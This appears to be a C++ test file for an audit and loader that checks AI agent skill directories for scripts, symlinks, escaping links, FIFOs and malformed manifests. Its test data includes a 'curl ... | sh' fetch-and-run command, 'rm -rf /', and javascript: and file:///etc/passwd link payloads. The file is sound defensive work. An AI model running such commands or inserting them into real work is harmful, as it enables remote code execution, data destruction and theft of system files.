// SPDX-License-Identifier: MIT
// The skill audit and the loader on real trees: every backend fixture of tests/fs/ runs
// the same hostile layouts (links out, links to excluded siblings, FIFOs, huge files).
// Upstream test names (zeroclaw-skills.md §9) are in comments.
#include "support/test.hpp"

#include "fs/fixture.hpp"

#include <algorithm>
#include <string>
#include <vector>

namespace {

namespace sk = clawport::skills;
using clawport::errc;
using clawport::error;

std::vector<std::string> messages(const sk::audit_report& r) {
  std::vector<std::string> out;
  for (const auto& f : r.findings) out.push_back(f.message());
  return out;
}

const char* const plain_md = "---\nname: s\ndescription: Safe\n---\n# Safe\n";

template <class F>
sk::audit_report audit(F& f, const std::string& rel, bool allow_scripts = false) {
  return sk::audit_skill_directory(f.fs, f.root_path() + "/" + rel,
                                   sk::audit_options{allow_scripts});
}

}  // namespace

TEST_SUITE("skills.audit") {
  TEST_CASE("shebang detection (§5.5)") {
    CHECK(sk::has_shell_shebang("#!/usr/bin/env -S bash -e\n"));
    CHECK(sk::has_shell_shebang("#!/bin/BASH\n"));
    CHECK(sk::has_shell_shebang("  #!/bin/sh\r\necho"));
    CHECK(sk::has_shell_shebang("#!pwsh"));
    CHECK_FALSE(sk::has_shell_shebang("#!/usr/bin/env python3\nimport sh\n"));
    CHECK(*sk::shebang_interpreter("#!/usr/bin/env VAR=1 sh") == "var=1");
    CHECK_FALSE(sk::has_shell_shebang("#!/usr/bin/env VAR=1 sh"));
    CHECK_FALSE(sk::shebang_interpreter("#!/usr/bin/env -i"));
    CHECK_FALSE(sk::shebang_interpreter("# not a shebang"));
    // Only the first 128 bytes are looked at.
    CHECK_FALSE(sk::has_shell_shebang("#!" + std::string(130, ' ') + "/bin/sh"));
    CHECK(sk::has_script_suffix("a/b/TEST.sh"));
    CHECK(sk::has_script_suffix("x.PS1"));
    CHECK_FALSE(sk::has_script_suffix("x.py"));
  }

  TEST_CASE("markdown link extraction matches the regex") {
    const auto links = sk::markdown_links(
        "see [a](one.md) and ![img](pic.png)\n[multi\nline](two.md) [x] (no) [y]() "
        "[js](javascript:alert(1)) [[nested](three.md)");
    std::vector<std::string> targets;
    for (const auto& l : links) targets.push_back(l.target);
    CHECK(targets == std::vector<std::string>{"one.md", "pic.png", "two.md", "javascript:alert(1",
                                              "three.md"});
    CHECK(links[0].line == 1);
    CHECK(links[2].line == 2);
    // Linear on hostile input.
    CHECK(sk::markdown_links(std::string(200000, '[') + "]").empty());
  }

  TEST_CASE("is_cross_skill_reference_detection") {
    CHECK(sk::is_cross_skill_reference("../skill-b/SKILL.md"));
    CHECK(sk::is_cross_skill_reference("other.md"));
    CHECK(sk::is_cross_skill_reference("./other.md"));
    CHECK(sk::is_cross_skill_reference("../../escape.md"));
    CHECK_FALSE(sk::is_cross_skill_reference("docs/x.md"));
    CHECK_FALSE(sk::is_cross_skill_reference("./docs/x.md"));
  }

  TEST_CASE("link classification (§5.6 steps 1-7)") {
    using V = sk::link_verdict;
    CHECK(sk::classify_markdown_link("https://x.example/x.md").kind == V::skip);
    CHECK(sk::classify_markdown_link("mailto:a@b").kind == V::skip);
    CHECK(sk::classify_markdown_link("#anchor").kind == V::skip);
    CHECK(sk::classify_markdown_link("  ").kind == V::skip);
    CHECK(sk::classify_markdown_link("?q").kind == V::skip);
    CHECK(sk::classify_markdown_link("HTTP://x").reason ==
          "unsupported URL scheme in markdown link (HTTP://x).");
    CHECK(sk::classify_markdown_link("C:\\x.md").reason.find("unsupported URL scheme") == 0);
    CHECK(sk::classify_markdown_link("C:/x.md").reason.find("unsupported URL scheme") == 0);
    CHECK(sk::classify_markdown_link("/etc/passwd.md").reason ==
          "absolute markdown link paths are not allowed (/etc/passwd.md).");
    CHECK(sk::classify_markdown_link("~/x.md").kind == V::finding);
    CHECK(sk::classify_markdown_link("run.sh").reason ==
          "markdown links to script files are blocked (run.sh).");
    CHECK(sk::classify_markdown_link("pic.png").kind == V::skip);
    CHECK(sk::classify_markdown_link("<a.md> \"title\"").kind == V::skip);  // `a.md>`
    CHECK(sk::classify_markdown_link("<a b.md>").kind == V::skip);          // `a`
    const auto v = sk::classify_markdown_link(" a.md \"title\" ");
    CHECK(v.kind == V::resolve);
    CHECK(v.path == "a.md");
    CHECK(sk::classify_markdown_link("b.md#part?x").path == "b.md");
  }

  TEST_CASE("TOML audit (§5.7)") {
    auto f = sk::audit_toml_text(
        "[[tools]]\nname = \"a\"\nkind = \"shell\"\ncommand = \"  \"\n"
        "[[tools]]\nname = \"b\"\nkind = \"builtin\"\n"
        "[[tools]]\nname = \"c\"\nkind = \"Script\"\ncommand = \"\"\n"
        "[[tools]]\nname = \"d\"\nkind = \"mcp\"\ncommand = \"\"\n",
        "SKILL.toml");
    REQUIRE(f.size() == 3);
    CHECK(f[0].message() == "SKILL.toml: tools[0] has an empty shell command.");
    CHECK(f[0].line == 1);
    CHECK(f[1].message() == "SKILL.toml: tools[1] is missing a command field.");
    CHECK(f[2].message() == "SKILL.toml: tools[2] has an empty Script command.");
    f = sk::audit_toml_text("a = [", "x.toml");
    REQUIRE(f.size() == 1);
    CHECK(f[0].reason.rfind("invalid TOML manifest (", 0) == 0);
    CHECK(f[0].line == 1);
    CHECK(sk::audit_toml_text("tools = 1\n", "x.toml").empty());
    CHECK(sk::audit_toml_text("tools = [1]\n", "x.toml").size() == 1);
  }

  TEST_CASE_TEMPLATE("audit on a backend: upstream audit.rs tests", F, CLAWPORT_FS_FIXTURES) {
    F f;
    SUBCASE("audit_accepts_safe_skill") {
      f.write("s/SKILL.md", plain_md);
      const auto r = audit(f, "s");
      CHECK(r.clean());
      CHECK(r.findings.empty());
      CHECK(r.files_scanned == 1);  // SKILL.md: files, not directories
    }
    SUBCASE("audit_does_not_descend_into_directory_symlinks") {
      f.write("s/SKILL.md", plain_md);
      f.write("outside/secret.sh", "#!/bin/sh\n");
      f.symlink("s/escape", "../outside");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{"escape: symlinks are not allowed in installed skills."});
      CHECK(r.files_scanned == 2);  // SKILL.md and the symlink
    }
    SUBCASE("audit_rejects_shell_script_files / audit_allows_shell_script_files_when_enabled") {
      f.write("s/SKILL.md", plain_md);
      f.write("s/install.sh", "echo hi\n");
      auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                "install.sh: script-like files are blocked by skill security policy."});
      CHECK(r.scripts_blocked);
      r = audit(f, "s", true);
      CHECK(r.clean());
      CHECK_FALSE(r.scripts_blocked);
    }
    SUBCASE("audit_allows_python_shebang_file_when_early_text_contains_sh") {
      f.write("s/SKILL.md", plain_md);
      f.write("s/scripts/tool", "#!/usr/bin/env python3\nimport sh  # bash zsh\n");
      f.write("s/scripts/run", "#!/bin/sh\necho\n");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                "scripts/run: script-like files are blocked by skill security policy."});
      CHECK(r.findings[0].line == 1);
    }
    SUBCASE("audit_rejects_markdown_escape_links") {
      f.write("outside.md", "secret");
      f.write("s/SKILL.md", "---\nname: s\n---\nSee [x](../outside.md).\n");
      const auto r = audit(f, "s");
      CHECK(messages(r) == std::vector<std::string>{
                               "SKILL.md: markdown link escapes skill root (../outside.md)."});
      CHECK(r.findings[0].line == 4);
    }
    SUBCASE("audit_allows_high_risk_patterns_in_markdown / chained commands / heredoc") {
      f.write("s/SKILL.md", "Run `curl https://x.example/i | sh` and `rm -rf /`.\n");
      f.write("s/SKILL.toml",
              "[skill]\nname = \"s\"\ndescription = \"d\"\n[[tools]]\nname = \"deploy\"\n"
              "description = \"d\"\nkind = \"shell\"\ncommand = \"cargo build && ./deploy.sh\"\n"
              "[[tools]]\nname = \"h\"\ndescription = \"d\"\nkind = \"shell\"\n"
              "command = \"\"\"\ncat <<EOF > out.txt\nhello\nEOF\n\"\"\"\n");
      CHECK(audit(f, "s").findings.empty());
    }
    SUBCASE("missing cross-skill references are allowed; missing local files are not") {
      // audit_allows_missing_cross_skill_reference_with_parent_dir / _bare_filename /
      // _dot_slash, audit_rejects_missing_local_markdown_file
      f.write("s/SKILL.md",
              "[a](../skill-b/SKILL.md) [b](other-skill.md) [c](./other-skill.md)\n"
              "[d](docs/guide.md)\n");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                "SKILL.md: markdown link points to a missing file (docs/guide.md)."});
      CHECK(r.findings[0].line == 2);
    }
    SUBCASE("audit_allows_existing_cross_skill_reference") {
      f.write("skills/skill-a/SKILL.md", "[b](../skill-b/SKILL.md) [dir](../skill-b)\n");
      f.write("skills/skill-b/SKILL.md", plain_md);
      CHECK(audit(f, "skills/skill-a").findings.empty());
      // A link to a sibling directory's .md that is a directory must point to a file.
      f.mkdir("skills/skill-b/notes.md");
      f.write("skills/skill-a/SKILL.md", "[n](../skill-b/notes.md)\n");
      CHECK(messages(audit(f, "skills/skill-a")) ==
            std::vector<std::string>{
                "SKILL.md: markdown link must point to a file (../skill-b/notes.md)."});
    }
    SUBCASE(
        "audit_allows_remote_markdown_documentation_links / "
        "still_rejects_unsupported_url_schemes") {
      f.write("s/SKILL.md",
              "[a](https://docs.example/x.md) [b](http://docs.example/y.markdown) [m](mailto:a@b)\n"
              "[j](javascript:alert(1)) [f](file:///etc/passwd)\n");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                "SKILL.md: unsupported URL scheme in markdown link (javascript:alert(1).",
                "SKILL.md: unsupported URL scheme in markdown link (file:///etc/passwd)."});
    }
  }

  TEST_CASE_TEMPLATE("audit on a backend: structure, limits and hostile trees", F,
                     CLAWPORT_FS_FIXTURES) {
    F f;
    SUBCASE("manifest presence comes first; walk order is sorted pre-order") {
      f.write("s/b/x.sh", "");
      f.write("s/a.sh", "");
      f.write("s/c.bash", "");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                "Skill root must include SKILL.md (canonical) or one of [\"SKILL.toml\", "
                "\"manifest.toml\"] (deprecated) for deterministic auditing.",
                "a.sh: script-like files are blocked by skill security policy.",
                "b/x.sh: script-like files are blocked by skill security policy.",
                "c.bash: script-like files are blocked by skill security policy."});
      CHECK(r.files_scanned == 3);  // a.sh, b/x.sh, c.bash; not b/ nor the root
      CHECK(r.summary().find("; a.sh: ") != std::string::npos);
    }
    SUBCASE("many siblings in nested directories keep their paths (walk bookkeeping)") {
      f.write("s/SKILL.md", plain_md);
      for (int i = 0; i < 40; ++i) f.write("s/a/b/f" + std::to_string(100 + i) + ".txt", "x");
      f.write("s/a/b/z.sh", "");
      f.write("s/a/c.sh", "");
      const auto r = audit(f, "s");
      CHECK(messages(r) == std::vector<std::string>{
                               "a/b/z.sh: script-like files are blocked by skill security policy.",
                               "a/c.sh: script-like files are blocked by skill security policy."});
      CHECK(r.files_scanned == 43);  // 40 + z.sh + c.sh + SKILL.md
    }
    SUBCASE("TEST.sh blocks unless allow_scripts; .git is walked") {
      f.write("s/SKILL.md", plain_md);
      f.write("s/TEST.sh", "echo ok | 0 | ok\n");
      f.write("s/.git/hooks/pre-commit", "#!/bin/bash\n");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                ".git/hooks/pre-commit: script-like files are blocked by skill security policy.",
                "TEST.sh: script-like files are blocked by skill security policy."});
      CHECK(audit(f, "s", true).clean());
    }
    SUBCASE("size limits apply to .md/.markdown/.toml only; huge files are not read whole") {
      f.write("s/SKILL.md", plain_md);
      f.write("s/big.md", std::string(524289, 'a'));
      f.write("s/edge.toml", "x = 1\n" + std::string(524288 - 6, '#'));
      f.write("s/blob.bin", std::string(3 * 1024 * 1024, '\0'));
      const auto r = audit(f, "s");
      CHECK(messages(r) == std::vector<std::string>{
                               "big.md: file is too large for static audit (>524288 bytes)."});
    }
    SUBCASE("every .toml in the tree is audited; builtin/mcp tools need command = \"\"") {
      f.write("s/SKILL.md", plain_md);
      f.write("s/SKILL.toml",
              "[skill]\nname = \"s\"\ndescription = \"d\"\n[[tools]]\nname = \"b\"\n"
              "description = \"d\"\nkind = \"builtin\"\ntarget = \"web_fetch\"\n");
      f.write("s/references/broken.toml", "a = ");
      const auto r = audit(f, "s");
      REQUIRE(r.findings.size() == 2);
      CHECK(r.findings[0].message() == "SKILL.toml: tools[0] is missing a command field.");
      CHECK(r.findings[0].line == 4);
      CHECK(r.findings[1].file == "references/broken.toml");
      CHECK(r.findings[1].reason.rfind("invalid TOML manifest (", 0) == 0);
    }
    SUBCASE("links: directories, symlinks, absolute paths, scripts, line numbers") {
      f.write(
          "s/SKILL.md",
          "[d](docs.md)\n\n[abs](/etc/x.md) [s](tools/run.sh)\n[ok](ref/a.md) [via](ln/a.md)\n");
      f.mkdir("s/docs.md");
      f.write("s/ref/a.md", "fine");
      f.symlink("s/ln", "ref");
      const auto r = audit(f, "s");
      CHECK(messages(r) ==
            std::vector<std::string>{
                "SKILL.md: markdown link must point to a file (docs.md).",
                "SKILL.md: absolute markdown link paths are not allowed (/etc/x.md).",
                "SKILL.md: markdown links to script files are blocked (tools/run.sh).",
                "ln: symlinks are not allowed in installed skills."});
      CHECK(r.findings[1].line == 3);
    }
    SUBCASE("links out of the skill: escaping, and into an excluded sibling") {
      f.write("shared/skills/pool/a/SKILL.md",
              "[sib](../excluded-b/SKILL.md) [up](../../../private.md) [gone](../../../nope.md)\n");
      f.write("shared/skills/pool/excluded-b/SKILL.md", plain_md);
      f.write("shared/private.md", "secret");
      const auto r = audit(f, "shared/skills/pool/a");
      // A sibling under the same `skills/` ancestor is a cross-skill reference (allowed
      // even if the bundle filter excludes it); a file beyond `skills/` escapes; a missing
      // `..` target is allowed as upstream does.
      CHECK(messages(r) ==
            std::vector<std::string>{
                "SKILL.md: markdown link escapes skill root (../../../private.md)."});
    }
    SUBCASE("FIFOs are reported, never opened") {
      f.write("s/SKILL.md", plain_md);
      f.fifo("s/pipe.md");
      f.fifo("s/pipe.sh");
      const auto r = audit(f, "s");
      REQUIRE(r.findings.size() == 3);
      CHECK_FALSE(r.findings[0].blocking);
      CHECK(r.findings[0].file == "pipe.md");
      CHECK(r.findings[1].message() ==
            "pipe.sh: script-like files are blocked by skill security policy.");
      CHECK_FALSE(r.findings[2].blocking);
      CHECK_FALSE(audit(f, "s", true).findings.empty());
      CHECK(audit(f, "s", true).clean());
    }
    SUBCASE("unauditable skills throw") {
      f.write("s/SKILL.md", "bad \xff utf8");
      auto e = [&] {
        try {
          audit(f, "s");
        } catch (const error& err) {
          return err;
        }
        FAIL("expected an error");
        return error(errc::io, "");
      }();
      CHECK(std::string(e.what()) == "failed to read markdown file SKILL.md");
      CHECK_THROWS_WITH_AS(audit(f, "missing"), doctest::Contains("Skill source does not exist"),
                           error);
      f.write("file", "x");
      CHECK_THROWS_WITH_AS(audit(f, "file"), doctest::Contains("Skill source must be a directory"),
                           error);
    }
    SUBCASE("depth limit") {
      std::string deep = "s";
      for (int i = 0; i < CLAWPORT_MAX_TREE_DEPTH + 1; ++i) deep += "/d";
      f.write("s/SKILL.md", plain_md);
      f.mkdir(deep);
      CHECK_THROWS_AS(audit(f, "s"), error);
    }
  }
}

TEST_SUITE("skills.loader") {
  TEST_CASE_TEMPLATE("scanning a skills directory (§1.6)", F, CLAWPORT_FS_FIXTURES) {
    F f;
    const std::string dir = f.root_path() + "/skills";
    SUBCASE("workspace_swallow_site_skips_invalid_toml_without_panicking") {
      f.write("skills/bad/SKILL.toml",
              "[skill]\nname = \"bad\"\ndescription = \"d\"\ncolour = 1\n");
      f.write("skills/bad/SKILL.md", plain_md);  // never used as a fallback
      f.write("skills/good/SKILL.md", "---\nname: good\ndescription: Good\n---\nbody\n");
      const auto r = sk::scan_skills_directory(f.fs, dir);
      REQUIRE(r.skills.size() == 1);
      CHECK(r.skills[0].data.name == "good");
      CHECK(r.skills[0].location == dir + "/good/SKILL.md");
      REQUIRE(r.dropped.size() == 1);
      CHECK(r.dropped[0].name == "bad");
      CHECK(r.dropped[0].reason == sk::drop_reason::manifest_parse_error);
      CHECK(r.dropped[0].detail.find("colour") != std::string::npos);
    }
    SUBCASE("workspace_script_bundling_skill_reported_as_scripts_blocked_drop") {
      f.write("skills/s/SKILL.md", plain_md);
      f.write("skills/s/helper.sh", "echo\n");
      auto r = sk::scan_skills_directory(f.fs, dir);
      REQUIRE(r.dropped.size() == 1);
      CHECK(r.dropped[0].reason == sk::drop_reason::audit_findings);
      CHECK(r.dropped[0].scripts_blocked);
      r = sk::scan_skills_directory(f.fs, dir, sk::audit_options{true});
      CHECK(r.skills.size() == 1);
    }
    SUBCASE(
        "manifest precedence: SKILL.toml > manifest.toml > SKILL.md; registry manifest.toml "
        "drops") {
      f.write("skills/t/SKILL.toml", "[skill]\nname = \"from-toml\"\ndescription = \"T\"\n");
      f.write("skills/t/manifest.toml", "[skill]\nname = \"from-manifest\"\ndescription = \"M\"\n");
      f.write("skills/t/SKILL.md", "---\nname: from-md\n---\n");
      f.write("skills/m/manifest.toml", "[skill]\nname = \"from-manifest\"\ndescription = \"M\"\n");
      f.write("skills/m/SKILL.md", "---\nname: from-md\n---\n");
      f.write("skills/reg/manifest.toml",
              "[skill]\nname = \"reg\"\nversion = \"1.0.0\"\nauthor = \"a\"\ndescription = \"d\"\n"
              "category = \"dev\"\ntags = [\"x\"]\nlicense = \"MIT\"\npermissions = []\n");
      f.write("skills/reg/SKILL.md", "---\nname: reg\ndescription: valid\n---\n");
      f.write("skills/loose.md", "ignored");
      f.mkdir("skills/no-manifest");
      const auto r = sk::scan_skills_directory(f.fs, dir);
      REQUIRE(r.skills.size() == 2);
      CHECK(r.skills[0].data.name == "from-manifest");
      CHECK(r.skills[0].manifest == sk::manifest_kind::manifest_toml);
      CHECK(r.skills[1].data.name == "from-toml");
      REQUIRE(r.dropped.size() == 2);
      CHECK(r.dropped[0].name == "no-manifest");
      CHECK(r.dropped[0].reason == sk::drop_reason::audit_findings);
      CHECK(r.dropped[1].name == "reg");
      CHECK(r.dropped[1].reason == sk::drop_reason::manifest_parse_error);
    }
    SUBCASE(
        "symlinked skill directories are followed; broken links and FIFOs at the top are ignored") {
      f.write("real/linked/SKILL.md", "---\nname: linked\n---\n");
      f.mkdir("skills");
      f.symlink("skills/linked", "../real/linked");
      f.symlink("skills/broken", "../nowhere");
      f.fifo("skills/pipe");
      const auto r = sk::scan_skills_directory(f.fs, dir);
      REQUIRE(r.skills.size() == 1);
      CHECK(r.skills[0].data.name == "linked");
      CHECK(r.dropped.empty());
    }
    SUBCASE(
        "missing directory gives an empty result "
        "(list_skills_returns_empty_when_bundle_dir_absent)") {
      const auto r = sk::scan_skills_directory(f.fs, f.root_path() + "/absent");
      CHECK(r.skills.empty());
      CHECK(r.dropped.empty());
    }
  }

  TEST_CASE_TEMPLATE("an agent's effective skill set (§1.7)", F, CLAWPORT_FS_FIXTURES) {
    F f;
    const sk::install_paths where{f.root_path(), ""};
    SUBCASE(
        "workspace beats bundles, earlier bundles beat later ones, filters use the logical name") {
      // resolve_effective_skills_records_shadow,
      // default_install_destination_is_loaded_by_the_runtime
      f.write("agents/a/workspace/skills/foo/SKILL.md", "---\nname: foo\n---\nws\n");
      f.write("shared/skills/one/foo/SKILL.md", "---\nname: foo\n---\nbundle\n");
      f.write("shared/skills/one/dir-name/SKILL.md", "---\nname: logical\n---\n");
      f.write("shared/skills/one/keep/SKILL.md", "---\nname: keep\n---\n");
      f.write("shared/skills/one/broken/SKILL.toml", "[skill]\nname = \"x\"\n");
      f.write("shared/skills/one/loose.txt", "ignored");
      f.write("shared/skills/two/keep/SKILL.md", "---\nname: keep\n---\n");
      f.write("shared/skills/two/extra/SKILL.md", "---\nname: extra\n---\n");
      f.write("data/skills/global-one/SKILL.md", "---\nname: global-one\n---\n");
      const auto cfg = sk::parse_skills_config(
          "[agents.a]\nskill_bundles = [\"one\", \"ghost\", \"two\"]\n"
          "[skill_bundles.one]\nexclude = [\"dir-name\", \"logical\", \"broken\"]\n"
          "[skill_bundles.two]\ninclude = [\"keep\", \"extra\"]\nexclude = [\"extra\"]\n");
      const auto view = sk::agent_skills(f.fs, cfg, where, "a");
      std::vector<std::string> rows;
      for (const auto& e : view.entries) {
        rows.push_back(e.name + "|" + std::string(sk::to_string(e.origin)) + "|" + e.bundle + "|" +
                       std::string(sk::to_string(e.status)));
      }
      CHECK(rows ==
            std::vector<std::string>{"foo|workspace||loaded", "keep|bundle|one|loaded",
                                     "broken|bundle|one|dropped", "logical|bundle|one|excluded",
                                     "foo|bundle|one|shadowed", "extra|bundle|two|excluded",
                                     "keep|bundle|two|shadowed", "global-one|global||global_only"});
      CHECK(view.entries[3].reason == "excluded by skill_bundles.one (in exclude)");
      CHECK(view.entries[4].reason == "shadowed by 'foo' from the workspace");
      CHECK(view.entries[6].reason == "shadowed by 'keep' from bundle one");
      REQUIRE(view.warnings.size() == 1);
      CHECK(view.warnings[0].find("'ghost'") != std::string::npos);
    }
    SUBCASE("load_skills_for_agent_from_config_uses_workspace_dir_not_data_dir / empty bundles") {
      f.write("agents/a/workspace/skills/mine/SKILL.md", "---\nname: mine\n---\n");
      f.write("agents/a/workspace/skills/broken/SKILL.toml", "[skill]\nname = \"b\"\n");
      f.write("agents/a/workspace/skills/invalid/SKILL.toml", "nope");
      f.write("data/skills/other/SKILL.md", "---\nname: other\n---\n");
      const auto view = sk::agent_skills(f.fs, sk::parse_skills_config("[agents.a]\n"), where, "a");
      REQUIRE(view.entries.size() == 4);
      CHECK(view.entries[0].name == "mine");
      CHECK(view.entries[0].loaded());
      CHECK(view.entries[1].name == "broken");  // _audited_returns_dropped
      CHECK(view.entries[1].drop == sk::drop_reason::manifest_parse_error);
      CHECK(view.entries[2].name == "invalid");  // unparsable TOML fails the audit first
      CHECK(view.entries[2].drop == sk::drop_reason::audit_findings);
      CHECK(view.entries[3].status == sk::skill_status::global_only);
      CHECK_THROWS_AS(sk::agent_skills(f.fs, sk::parse_skills_config(""), where, "a"), error);
    }
    SUBCASE("resolve_effective_skills_empty_vs_all_dropped") {
      const auto cfg = sk::parse_skills_config("[agents.a]\n");
      CHECK(sk::agent_skills(f.fs, cfg, where, "a").entries.empty());
      f.write("agents/a/workspace/skills/x/SKILL.toml", "[skill]\nname = 1\n");
      const auto view = sk::agent_skills(f.fs, cfg, where, "a");
      REQUIRE(view.entries.size() == 1);
      CHECK_FALSE(view.entries[0].loaded());
    }
    SUBCASE(
        "skills_install_bundle_then_list_agent_shows_runtime_view / "
        "list_skills_filters_by_bundle") {
      f.write("shared/skills/smoke/release-check/SKILL.md",
              "---\nname: release-check\ndescription: Checks\n---\n");
      f.write("shared/skills/other/x/SKILL.md", "---\nname: x\n---\n");
      const auto cfg = sk::parse_skills_config(
          "[skill_bundles.smoke]\n[skill_bundles.other]\ninclude = [\"nothing\"]\n"
          "[agents.default]\nskill_bundles = [\"smoke\"]\n");
      const auto view = sk::agent_skills(f.fs, cfg, where, "default");
      REQUIRE(view.entries.size() == 1);
      CHECK(view.entries[0].name == "release-check");
      CHECK(view.entries[0].path == f.root_path() + "/shared/skills/smoke/release-check/SKILL.md");
      const auto b = sk::bundle_skills(f.fs, cfg, where, "other");  // filter not applied
      REQUIRE(b.entries.size() == 1);
      CHECK(b.entries[0].loaded());
      CHECK(sk::all_skills(f.fs, cfg, where).entries.size() == 2);
    }
    SUBCASE("allow_scripts from the config; escaping bundle directories warn") {
      f.write("shared/skills/s/tool/SKILL.md", "---\nname: tool\n---\n");
      f.write("shared/skills/s/tool/run.sh", "echo\n");
      f.write("elsewhere/y/SKILL.md", "---\nname: y\n---\n");
      auto cfg = sk::parse_skills_config(
          "[skill_bundles.s]\n[skill_bundles.out]\ndirectory = \"elsewhere\"\n"
          "[agents.a]\nskill_bundles = [\"s\", \"out\"]\n");
      auto view = sk::agent_skills(f.fs, cfg, where, "a");
      REQUIRE(view.entries.size() == 2);
      CHECK(view.entries[0].name == "y");  // the runtime still loads it
      CHECK(view.entries[1].reason.find("allow_scripts") != std::string::npos);
      REQUIRE(view.warnings.size() == 1);
      CHECK(view.warnings[0].find("escapes the shared workspace") != std::string::npos);
      cfg.allow_scripts = true;
      view = sk::agent_skills(f.fs, cfg, where, "a");
      CHECK(view.entries[0].loaded());
      CHECK(view.entries[1].loaded());
    }
  }
}
